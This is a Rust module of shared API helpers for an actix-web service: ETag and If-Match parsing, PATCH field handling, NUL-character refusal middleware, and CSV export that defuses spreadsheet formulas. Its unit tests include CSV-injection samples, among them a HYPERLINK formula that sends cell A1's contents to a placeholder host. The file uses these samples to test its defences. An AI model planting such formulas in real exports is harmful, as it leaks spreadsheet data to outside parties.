//! Small pieces of the API conventions (DESIGN.md §4) that every resource uses: versions as
//! `ETag`/`If-Match`, and PATCH fields that tell `null` from absent.

use actix_web::HttpRequest;
use actix_web::http::header;
use serde::Deserialize;

use crate::error::ApiError;

/// The `ETag` of a resource at `version`.
pub fn etag(version: i64) -> header::ETag {
    header::ETag(header::EntityTag::new_strong(version.to_string()))
}

/// The version named by `If-Match`, if the header is present.
pub fn if_match(req: &HttpRequest) -> Result<Option<i64>, ApiError> {
    let Some(value) = req.headers().get(header::IF_MATCH) else {
        return Ok(None);
    };
    value
        .to_str()
        .ok()
        .map(|v| v.trim().trim_start_matches("W/").trim_matches('"'))
        .and_then(|v| v.parse().ok())
        .map(Some)
        .ok_or_else(|| {
            ApiError::BadRequest("If-Match must be the ETag of the resource, e.g. \"3\"".to_owned())
        })
}

/// For `#[serde(default, deserialize_with = "present")]`: an explicit `null` is `Some(None)`
/// (clear the field), an absent field is `None` (keep it).
pub fn present<'de, D, T>(deserializer: D) -> Result<Option<Option<T>>, D::Error>
where
    D: serde::Deserializer<'de>,
    T: Deserialize<'de>,
{
    Option::<T>::deserialize(deserializer).map(Some)
}

/// Declares an API enum mirroring a domain one (same variant names), with its JSON names and
/// conversions both ways.
macro_rules! api_enum {
    // `tt`, not `literal`: utoipa reads the rename only from a plain literal token.
    ($(#[$meta:meta])* $dto:ident => $domain:ident { $($variant:ident => $text:tt),* $(,)? }) => {
        $(#[$meta])*
        #[derive(Debug, Clone, Copy, serde::Serialize, serde::Deserialize, utoipa::ToSchema, PartialEq, Eq)]
        pub enum $dto { $(#[serde(rename = $text)] $variant),* }

        impl From<$dto> for $domain {
            fn from(value: $dto) -> Self {
                match value { $($dto::$variant => $domain::$variant),* }
            }
        }

        impl From<$domain> for $dto {
            fn from(value: $domain) -> Self {
                match value { $($domain::$variant => $dto::$variant),* }
            }
        }
    };
}

/// The day a request names (Gregorian or Jalali), or today when it names none.
pub fn day_or_today(field: &str, input: Option<&str>) -> Result<chrono::NaiveDate, ApiError> {
    match input {
        Some(text) => Ok(tavana_domain::calendar::parse_date(field, text)?),
        None => Ok(chrono::Utc::now().date_naive()),
    }
}

/// A JSON body that may be left out. No body at all is `None`; a body that is there is read as
/// `web::Json` reads it, and refused as it refuses it (actix's own `Option<Json<T>>` takes a
/// body it cannot read, an unknown field or the wrong content type, for no body).
pub struct OptionalJson<T>(pub Option<T>);

impl<T: serde::de::DeserializeOwned + 'static> actix_web::FromRequest for OptionalJson<T> {
    type Error = actix_web::Error;
    type Future = futures_util::future::LocalBoxFuture<'static, Result<Self, Self::Error>>;

    fn from_request(req: &HttpRequest, payload: &mut actix_web::dev::Payload) -> Self::Future {
        let headers = req.headers();
        let length = headers
            .get(header::CONTENT_LENGTH)
            .and_then(|v| v.to_str().ok())
            .and_then(|v| v.trim().parse::<u64>().ok());
        let none = length == Some(0)
            || (length.is_none() && !headers.contains_key(header::TRANSFER_ENCODING));
        if none {
            return Box::pin(async { Ok(OptionalJson(None)) });
        }
        let body = actix_web::web::Json::<T>::from_request(req, payload);
        Box::pin(async move { Ok(OptionalJson(Some(body.await?.into_inner()))) })
    }
}

/// Refuses (422, `nul_character`) a request whose URL or JSON body holds the NUL character
/// (U+0000), before any handler reads it: no text anyone means holds one, PostgreSQL cannot store
/// one (a 500 from deep inside a write) and SQLite would. Import files are checked row by row.
pub async fn refuse_nul(
    mut req: actix_web::dev::ServiceRequest,
    next: actix_web::middleware::Next<impl actix_web::body::MessageBody + 'static>,
) -> Result<actix_web::dev::ServiceResponse<actix_web::body::BoxBody>, actix_web::Error> {
    let in_url = req
        .uri()
        .path_and_query()
        .is_some_and(|url| url.as_str().contains("%00"));
    if in_url {
        let error = ApiError::from(tavana_domain::text::nul_character("url"));
        return Ok(req.error_response(error));
    }
    let json = req
        .headers()
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .map(|v| {
            v.split(';')
                .next()
                .unwrap_or_default()
                .trim()
                .to_ascii_lowercase()
        })
        .is_some_and(|t| t == "application/json" || t.ends_with("+json"));
    if json {
        // Read whole, as `web::Json` would (within the same limit), and handed on unchanged.
        let body = match req.extract::<actix_web::web::Bytes>().await {
            Ok(body) => body,
            Err(error) => {
                use actix_web::error::PayloadError;
                let refusal = match error.as_error::<PayloadError>() {
                    Some(PayloadError::Overflow) => {
                        ApiError::PayloadTooLarge("the body is too large".to_owned())
                    }
                    _ => ApiError::BadRequest(format!("cannot read the body: {error}")),
                };
                return Ok(req.error_response(refusal));
            }
        };
        if escapes_nul(&body) {
            let error = ApiError::from(tavana_domain::text::nul_character("body"));
            return Ok(req.error_response(error));
        }
        req.set_payload(actix_web::dev::Payload::from(body));
    }
    next.call(req)
        .await
        .map(actix_web::dev::ServiceResponse::map_into_boxed_body)
}

/// Whether JSON text holds `\u0000`, the only way JSON writes NUL: an escape, not an escaped
/// backslash followed by `u0000`.
fn escapes_nul(json: &[u8]) -> bool {
    json.windows(6).enumerate().any(|(at, six)| {
        let backslashes = json[..at].iter().rev().take_while(|b| **b == b'\\').count();
        six == b"\\u0000" && backslashes % 2 == 0
    })
}

/// Trimmed free text; blank is none.
pub fn optional_text(input: Option<String>) -> Option<String> {
    input.map(|t| t.trim().to_owned()).filter(|t| !t.is_empty())
}

/// A cell as a spreadsheet should show it: text starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (a formula to Excel and LibreOffice: CSV injection) gets a leading `'`, which
/// they show as text. Numbers (`-12`, `+3.5`) are left as they are.
pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && cell.parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// CSV with a header row, UTF-8 with a byte-order mark so that spreadsheet programs show Persian
/// text correctly. Text that a spreadsheet would run as a formula is written inert (`spreadsheet_safe`).
pub fn csv_response(rows: &[Vec<String>]) -> Result<actix_web::HttpResponse, ApiError> {
    let mut writer = csv::Writer::from_writer(Vec::from("\u{feff}".as_bytes()));
    for row in rows {
        writer
            .write_record(row.iter().map(|cell| spreadsheet_safe(cell).into_owned()))
            .map_err(ApiError::internal)?;
    }
    let body = writer.into_inner().map_err(ApiError::internal)?;
    Ok(actix_web::HttpResponse::Ok()
        .insert_header((
            header::CONTENT_TYPE,
            header::HeaderValue::from_static("text/csv; charset=utf-8"),
        ))
        .body(body))
}

#[cfg(test)]
mod tests {
    use super::{escapes_nul, spreadsheet_safe};

    #[test]
    fn a_nul_is_an_escape_not_an_escaped_backslash() {
        assert!(escapes_nul(br#"{"note":"a\u0000b"}"#));
        assert!(escapes_nul(br#"{"note":"\\\u0000"}"#));
        assert!(!escapes_nul(br#"{"note":"\\u0000"}"#));
        assert!(escapes_nul(br#"{"note":"\u00001"}"#));
        assert!(!escapes_nul(br#"{"note":"a\u0001b","n":0}"#));
    }

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        for formula in [
            "=HYPERLINK(\"https://x/?\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
        }
        for plain in ["-12", "+3.5", "0.25", "national_id", "زهرا", "", "a=b"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }
}
